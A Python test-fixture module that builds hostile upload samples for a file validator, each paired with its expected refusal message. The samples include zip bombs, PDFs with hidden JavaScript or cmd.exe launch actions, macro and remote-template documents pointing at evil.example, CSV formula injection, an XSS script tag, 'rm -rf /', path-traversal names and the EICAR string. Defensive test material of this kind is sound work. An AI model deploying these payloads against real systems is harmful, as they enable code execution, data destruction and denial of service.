"""Files that mean harm, or might: each with its name, and the words with which it is refused.

None of them does anything but be of the shape that does harm elsewhere.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from consultation.files.kinds import IN_WORDS
from tests.consultation.files.good_files import MACRO_TYPE, archive, docx, odt, pdf, picture, word_parts

WRONG_KIND = f"must be a {IN_WORDS}"
NOT_SO = "though its name says so"
TWO_ENDINGS = "two endings"
MACROS = "must not contain macros or programs"
OTHERS = "must not contain other files"
LOCKED = "password protected"
BOMB = "unpacks to far more than its size"
MIXED = "more than one kind of file"
FORMULAS = "must not contain formulas"
PIXELS = "million pixels"
EMPTY = "is empty"
VIRUS = "contains a virus"
# In two halves, so that no scanner takes this file for what it looks for.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

SCRIPT = b"<script>alert(document.domain)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def zip_bomb() -> bytes:
    """A document of 200 kilobytes that unpacks to 200 megabytes."""
    return docx(**{"word/media/image1.bmp": b"\0" * 200_000_000})


def many_small_bombs() -> bytes:
    """Each part is small enough; together they are not."""
    part = b"\0" * 9_000_000
    return docx(**{f"word/media/image{number}.bmp": part for number in range(40)})


def locked_zip() -> bytes:
    """As if every part were encrypted: the mark of that is set in the index and at each part."""
    made = bytearray(docx())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(sign)
        while place >= 0:
            made[place + at] |= 1
            place = made.find(sign, place + 1)
    return bytes(made)


def packed_pdf(objects: bytes, kind: bytes = b"/ObjStm", filters: bytes = b"/FlateDecode") -> bytes:
    """Whose objects are packed together, as newer programs write them."""
    packed = zlib.compress(b"8 0 " + objects)
    head = b"<< /Type %s /N 1 /First 4 /Filter %s /Length %d >>\nstream\n" % (kind, filters, len(packed))
    return pdf(head + packed + b"\nendstream")


def many_parts() -> bytes:
    """Whose index alone would fill memory."""
    made = bytearray(docx())
    end = made.rfind(b"PK\x05\x06")
    made[end + 10 : end + 12] = (60_000).to_bytes(2, "little")
    return bytes(made)


def twice_the_same_name() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in word_parts().items():
            made.writestr(name, content)
        made.writestr("WORD/document.xml", "<another/>")
    return out.getvalue()


def giant_png(side: int = 30_000) -> bytes:
    """900 million pixels in a hundred kilobytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * ((side // 8 + 1) * side // 100), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def remote_template() -> bytes:
    link = (
        '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(**{"word/_rels/settings.xml.rels": link})


HOSTILE: list[tuple[str, str, bytes, str]] = [
    ("a program", "setup.exe", b"MZ\x90\0" + b"\0" * 100, WRONG_KIND),
    ("a page", "page.html", SCRIPT, WRONG_KIND),
    (
        "a drawing with a script",
        "logo.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
        WRONG_KIND,
    ),
    ("a document with macros by name", "report.docm", docx(), WRONG_KIND),
    ("no ending", "report", pdf(), WRONG_KIND),
    ("two endings", "report.exe.pdf", pdf(), TWO_ENDINGS),
    ("two endings with spaces", "report.js .txt", b"words", TWO_ENDINGS),
    ("an ending turned round", "report\u202efdp.exe", pdf(), WRONG_KIND),
    ("nothing", "empty.pdf", b"", EMPTY),
    ("a program that calls itself PDF", "report.pdf", b"MZ\x90\0" + b"\0" * 100, NOT_SO),
    ("a page that calls itself PDF", "report.pdf", b"<html>" + SCRIPT, MIXED),
    ("a page inside a PDF's head", "report.pdf", b"%PDF-1.7\n" + SCRIPT + pdf(), MIXED),
    ("a PDF behind other bytes", "report.pdf", b"GIF89a" + pdf(), NOT_SO),
    ("half a PDF", "report.pdf", pdf()[:100], NOT_SO),
    ("a PDF that runs a script", "report.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), MACROS),
    ("a PDF that hides its script", "report.pdf", pdf(b"<< /S /J#61vaScript /J#53 (x) >>"), MACROS),
    ("a PDF that packs its script", "report.pdf", packed_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), MACROS),
    ("a PDF that packs its script far behind", "report.pdf", packed_pdf(b" " * 200_000 + b"/S /Launch /F (x)"), MACROS),
    ("a PDF that packs a file", "report.pdf", packed_pdf(b"<< /Names << /EmbeddedFiles 3 0 R >> >>"), OTHERS),
    ("a PDF that hides what it packs", "report.pdf", packed_pdf(b"<</S/JavaScript/JS(x)>>", b"/Obj#53tm"), MACROS),
    ("a PDF that packs twice", "report.pdf", packed_pdf(b"x", filters=b"[/ASCIIHexDecode/FlateDecode]"), "look into"),
    ("a PDF that unpacks for ever", "report.pdf", packed_pdf(b"\0" * 60_000_000), BOMB),
    ("a PDF that starts a program", "report.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), MACROS),
    ("a PDF with a file inside", "report.pdf", pdf(b"<< /Type /EmbeddedFile >>"), OTHERS),
    ("a PDF with a password", "report.pdf", pdf(b"<< /Encrypt 5 0 R >>"), LOCKED),
    ("a PDF that is an archive too", "report.pdf", pdf() + archive({"a.txt": "x"}), MIXED),
    ("a program that calls itself Word", "report.docx", b"MZ\x90\0" + b"\0" * 100, NOT_SO),
    ("an archive that calls itself Word", "report.docx", archive({"a.txt": "x"}), NOT_SO),
    ("a Word document that calls itself Excel", "report.xlsx", docx(), NOT_SO),
    ("a document with macros", "report.docx", docx(**{"word/vbaProject.bin": b"x"}), MACROS),
    ("a document with macros, renamed", "report.docx", archive(word_parts(MACRO_TYPE)), MACROS),
    ("a document that fetches macros", "report.docx", remote_template(), MACROS),
    ("a document with old macros", "figures.xlsx", docx(**{"xl/macrosheets/sheet1.xml": "x"}), MACROS),
    ("a document with a control", "report.docx", docx(**{"word/activeX/activeX1.xml": "x"}), MACROS),
    ("a document with a package", "report.docx", docx(**{"word/embeddings/oleObject1.bin": b"x"}), OTHERS),
    ("an archive in a document", "report.docx", docx(**{"word/media/image1.zip": b"PK"}), OTHERS),
    (
        "an OpenDocument with macros",
        "letter.odt",
        archive({"mimetype": "x", "Basic/Standard/Module1.xml": "x"}),
        MACROS,
    ),
    ("an OpenDocument of another kind", "letter.odt", odt(mimetype="application/zip"), NOT_SO),
    ("an OpenDocument with a password", "letter.odt", odt("<manifest:encryption-data/>"), LOCKED),
    ("an Office document with a password", "report.docx", OLE + "EncryptedPackage".encode("utf-16-le"), LOCKED),
    ("an old Office document", "report.docx", OLE + b"\0" * 600, NOT_SO),
    ("encrypted parts", "report.docx", locked_zip(), LOCKED),
    ("a bomb", "report.docx", zip_bomb(), BOMB),
    ("many small bombs", "report.docx", many_small_bombs(), BOMB),
    ("more parts than anybody needs", "report.docx", many_parts(), BOMB),
    ("parts that lead out", "report.docx", docx(**{"../../etc/passwd": "x"}), NOT_SO),
    ("parts with a drive", "report.docx", docx(**{"C:/windows/x.xml": "x"}), NOT_SO),
    ("parts of one name", "report.docx", twice_the_same_name(), NOT_SO),
    ("a page behind a document", "report.docx", archive(word_parts(), comment=SCRIPT), NOT_SO),
    ("half a document", "report.docx", docx()[:150], NOT_SO),
    ("the test file of scanners", "notes.txt", EICAR, VIRUS),
    ("the test file of scanners, with a line", "figures.csv", b"\xef\xbb\xbf" + EICAR + b"\r\n", VIRUS),
    ("a page that calls itself text", "notes.txt", b"<!DOCTYPE html>" + SCRIPT, MIXED),
    ("a script that calls itself text", "notes.txt", b"#!/bin/sh\nrm -rf /\n", MIXED),
    ("bytes that call themselves text", "notes.txt", b"words\0\x01\x02", NOT_SO),
    ("formulas", "figures.csv", b"name,sum\nLeeds,=cmd|'/c calc'!A1\n", FORMULAS),
    ("formulas in quotes", "figures.csv", b'name,sum\n"=HYPERLINK(""http://evil.example"")",1\n', FORMULAS),
    ("formulas with a plus", "figures.csv", b"+SUM(A1:A9),2\n", FORMULAS),
    ("formulas far behind", "figures.csv", b"Leeds,5\n" * 20_000 + b"Leeds,=1+1\n", FORMULAS),
    ("a page that calls itself a picture", "photo.jpg", b"GIF89a" + SCRIPT, MIXED),
    ("a picture of another kind", "photo.jpg", picture("PNG"), NOT_SO),
    ("a giant picture", "map.png", giant_png(), PIXELS),
    ("half a picture", "photo.jpg", picture("JPEG", (200, 200))[:-40], NOT_SO),
    ("a picture of no size", "photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF", NOT_SO),
]

# Names that are made harmless, and what becomes of each.
NAMES: list[tuple[str, str]] = [
    ("../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\windows\\win.txt", "win.txt"),
    ("CON.txt", "file-CON.txt"),
    ("lpt1.notes.txt", "file-lpt1.notes.txt"),
    ("a\x00b\r\nSet-Cookie: x.txt", "abSet-Cookie- x.txt"),
    ('"><script>.txt', "---script-.txt"),
    ("evil\u202etxt.txt", "eviltxt.txt"),
    ("zero\u200bwidth\ufeff.txt", "zerowidth.txt"),
    ("   .txt", "file.txt"),
    ("a" * 400 + ".txt", "a" * 116 + ".txt"),
    ("e" + "\u0301" * 500 + ".txt", "\u00e9\u0301\u0301\u0301.txt"),
    ("naïve – “résumé”.txt", "naïve – “résumé”.txt"),
]
